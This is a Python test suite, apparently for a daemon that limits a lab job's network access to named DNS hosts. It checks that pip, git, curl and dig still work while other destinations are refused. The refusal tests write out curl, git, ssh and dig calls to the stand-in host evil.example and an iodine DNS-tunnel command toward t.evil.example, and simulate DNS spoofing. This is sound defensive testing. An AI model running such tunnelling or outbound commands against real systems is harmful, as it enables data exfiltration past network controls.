"""Real tools under a policy that has only names, and the world that they meet."""

import os
import subprocess

from conftest import JOB
from daemon import policy, rule
from lab import SSH_UID
from names_checks import assert_refused, eventually, left, pinned
from names_tools import SSH_PORT, tools  # noqa: F401
from names_world import SITE4, SITE6, daemon, names_world, site, world  # noqa: F401


def addresses(told, kind):
    return [one["data"] for one in told["answers"] if one["type"] == kind]


def test_the_world_answers_without_a_daemon(world, site, family):
    """What the other tests stand on: the servers, both transports, and what they are told to do."""
    asker = world.asker(None, nameservers=[site.resolver])
    world.set(("a.lab.test", "A", 60, [SITE4.first]), ("a.lab.test", "AAAA", 60, [SITE6.first]),
              ("alias.lab.test", "CNAME", 30, ["a.lab.test"]), ("text.lab.test", "TXT", 5, [["x" * 200] * 4]),
              ("_ssh._tcp.lab.test", "SRV", 5, [[1, 2, 22, "a.lab.test"]]),
              ("h.lab.test", "HTTPS", 5, [[1, "", {"alpn": ["h2"], "ech": "0102", "ipv4hint": [SITE4.first]}]]))  # fmt: skip

    def ask(name, kind, **keys):
        (told,) = asker.do("ask", server=site.resolver, questions=[[name, kind]], **keys)["answers"]
        return told

    for transport in ("udp", "tcp"):
        assert addresses(ask("A.lab.test", site.type, transport=transport), site.type) == [site.first]
        told = ask("alias.lab.test", site.type, transport=transport)
        assert [one["type"] for one in told["answers"]] == ["CNAME", site.type]
        assert ask("nobody.lab.test", "A", transport=transport)["code"] == "NXDOMAIN"
        assert ask("a.lab.test", "TXT", transport=transport)["answers"] == []
    assert ask("text.lab.test", "TXT", edns=None)["truncated"]
    assert len(ask("text.lab.test", "TXT", transport="tcp")["answers"][0]["data"]) == 4
    assert addresses(ask("_ssh._tcp.lab.test", "SRV"), "SRV") == [[1, 2, 22, "a.lab.test"]]
    assert ask("h.lab.test", "HTTPS")["answers"][0]["data"][2]["ech"] == "0102"
    eventually(lambda: {query["server"] for query in world.queries()} == {site.resolver}, 15, "what the server says")
    assert {query["transport"] for query in world.queries(name="alias.lab.test")} == {"udp", "tcp"}
    assert world.queries(name="a.lab.test")[0]["spelled"] == "A.lab.test"

    world.behave("a.lab.test", "drop", times=1)
    assert ask("a.lab.test", "A", timeout=0.2)["error"] == "timeout"
    world.behave("a.lab.test", "truncate", times=1)
    assert ask("a.lab.test", "A")["truncated"]
    world.behave("a.lab.test", "rcode", code="SERVFAIL", times=1)
    assert ask("a.lab.test", "A")["code"] == "SERVFAIL"
    world.behave("a.lab.test", "spoof", poison=site.unknown, type=site.type)
    assert addresses(ask("a.lab.test", site.type), site.type) == [site.unknown], "the asker looks at the id alone"
    world.behave_well()
    both = asker.do("ask", server=site.resolver, questions=[["a.lab.test", "A"], ["a.lab.test", "AAAA"]], sockets="one")
    assert [one["code"] for one in both["answers"]] == ["NOERROR"] * 2
    world.stop(site.resolver)
    assert ask("a.lab.test", "A", timeout=0.5).get("error") in ("ECONNREFUSED", "timeout")
    world.start(site.resolver)
    assert ask("alias.lab.test", "A")["code"] == "NOERROR"


def test_the_tools_work_without_a_daemon(ground, world, tools, site, family, tmp_path):
    world.set(*tools.records(site))
    check_tools(ground, world, tools, site, family, tools_directory(tmp_path))
    assert {query["server"] for query in world.queries()} == {site.resolver}


def tools_directory(path):
    for each in [path, *list(path.parents)[:-2]]:
        os.chmod(each, 0o755)
    os.chown(path, SSH_UID, SSH_UID)
    return path


def check_tools(ground, world, tools, site, family, directory):
    """pip, git over both, curl, getent, dig: each succeeds."""
    del ground
    number = "4" if family.name == "ipv4" else "6"
    job = world.agent(JOB, uid=SSH_UID, nameservers=[site.resolver], environment=tools.ssh_environment())

    def good(*argv):
        done = job.run(*argv, timeout=30)
        assert done.get("status") == 0, (argv, done)
        return done["stdout"]

    assert site.packages in good("getent", "hosts", "packages.lab.test")
    assert site.packages in good("getent", f"ahostsv{number}", "packages.lab.test")
    assert good("curl", "-sS", f"-{number}", "https://packages.lab.test/simple/tiny/").startswith("<!DOCTYPE")
    good(*tools.pip(directory / "installed"))
    assert (directory / "installed/tiny.py").read_text() == "answer = 42\n"
    good("git", "clone", "-q", "https://git.lab.test/tiny.git", str(directory / "by-https"))
    good("git", "clone", "-q", f"root@git.lab.test:{tools.repository}", str(directory / "by-ssh"))
    for folder in ("by-https", "by-ssh"):
        assert (directory / folder / "tiny.py").read_text() == "answer = 42\n"
    for flags in ([], ["+tcp"]):
        assert good("dig", "+short", *flags, "packages.lab.test", site.type).split() == [site.packages]
    return job


def test_the_tools_work_under_a_policy_of_names_alone(ground, daemon, world, tools, site, family, tmp_path):
    world.set(*tools.records(site))
    text = policy(
        "job", ground.glob(JOB), user=SSH_UID,
        allow=[rule("packages", ["packages.lab.test", "git.lab.test"], [443], protocol="tls"),
               rule("git", ["git.lab.test"], [SSH_PORT], protocol="ssh")],
    )  # fmt: skip
    daemon.start({"job": text})
    job = check_tools(ground, world, tools, site, family, tools_directory(tmp_path))
    assert {query["server"] for query in world.queries()} == {site.upstream}
    assert {query["name"] for query in world.queries()} <= {"packages.lab.test", "git.lab.test"}
    assert pinned(daemon, name="git.lab.test") == {site.packages}
    assert [event for event in daemon.events(workload="job") if event["verdict"] == "deny"] == []
    check_refusals(ground, world, daemon, job, site, family)


def check_refusals(ground, world, daemon, job, site, family):
    """The same tools, with what the policy does not name."""
    number = "4" if family.name == "ipv4" else "6"
    literal = site.unknown if ":" not in site.unknown else f"[{site.unknown}]"
    with ground.capture() as capture:
        # An address that was never given out, under a name that is allowed.
        named = ["--resolve", f"packages.lab.test:443:{literal}"]
        assert job.run("curl", "-sS", f"-{number}", *named, "https://packages.lab.test/")["status"] == 7
        assert capture.find(destination=site.unknown) == []
        for argv in (
            ["curl", "-sS", "https://evil.example/"],
            ["getent", "hosts", "evil.example"],
            ["git", "ls-remote", "https://evil.example/tiny.git"],
            ["ssh", "-F", "none", "-o", "BatchMode=yes", "evil.example"],
        ):
            assert job.run(*argv)["status"] not in (0, None), argv
        assert "REFUSED" in job.run("dig", "+tcp", "evil.example")["stdout"]
        assert "REFUSED" in job.run("dig", "packages.lab.test", "TXT")["stdout"]
        assert left(capture, b"evil") == []
    event = daemon.wait_event(to=site.unknown, port=443)
    assert (event["verdict"], event["reason"]) == ("deny", "unknown-destination")
    assert event["process"]["executable"] == "/usr/bin/curl"
    assert_refused(daemon, "evil.example")
    assert world.queries(name="evil.example") == []


def test_dig_sees_an_ordinary_resolver(ground, daemon, world, site):
    """EDNS, flags, an answer larger than 512 bytes, TCP kept open, and a reason for the refusal (RFC 8914)."""
    many = [site.pool(number) for number in range(1, 61)]
    world.set(("many.lab.test", site.type, 60, many))
    daemon.start({"job": policy("job", ground.glob(JOB), allow=[rule("n", ["many.lab.test"], [443])])})
    job = world.agent(JOB, nameservers=[site.resolver])
    for flags in (["+tcp"], ["+bufsize=4096"], ["+noedns"], ["+bufsize=512"], ["+tcp", "+keepopen"]):
        told = job.run("dig", *flags, "many.lab.test", site.type)["stdout"]
        assert "status: NOERROR" in told and told.count("IN\t" + site.type) == len(many) + 1, (flags, told)
    told = job.run("dig", "evil.example", site.type)["stdout"]
    assert "status: REFUSED" in told and "EDE: " in told and " ra" in told, told


def test_iodine_finds_no_way(ground, daemon, world, site):
    """The real client; it tries every type it knows. What it says in types that carry data is in test_names.py, too."""
    daemon.start({"job": policy("job", ground.glob(JOB), allow=[rule("n", ["packages.lab.test"], [443])])})
    argv = ["iodine", "-f", "-r", "-P", "x", "-d", "dns9", site.resolver, "t.evil.example"]
    with ground.capture() as capture:
        pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.STDOUT, "text": True}
        client = ground.spawn(["timeout", "15", *argv], cgroup=JOB, **pipes)

        def denied():
            events = daemon.events(verdict="deny", reason="name-not-allowed")
            names = [event["destination"].get("name", "") for event in events]
            return len({name for name in names if name.endswith("t.evil.example")}) >= 3

        eventually(denied, 15, "iodine's names are in the record")
        assert client.poll() is None or client.returncode != 0
        client.terminate()
        output, _ = client.communicate(timeout=15)
        assert client.returncode != 0 and "DNS queries for t.evil.example" in output, output
        assert left(capture, b"evil") == [] and world.queries() == []
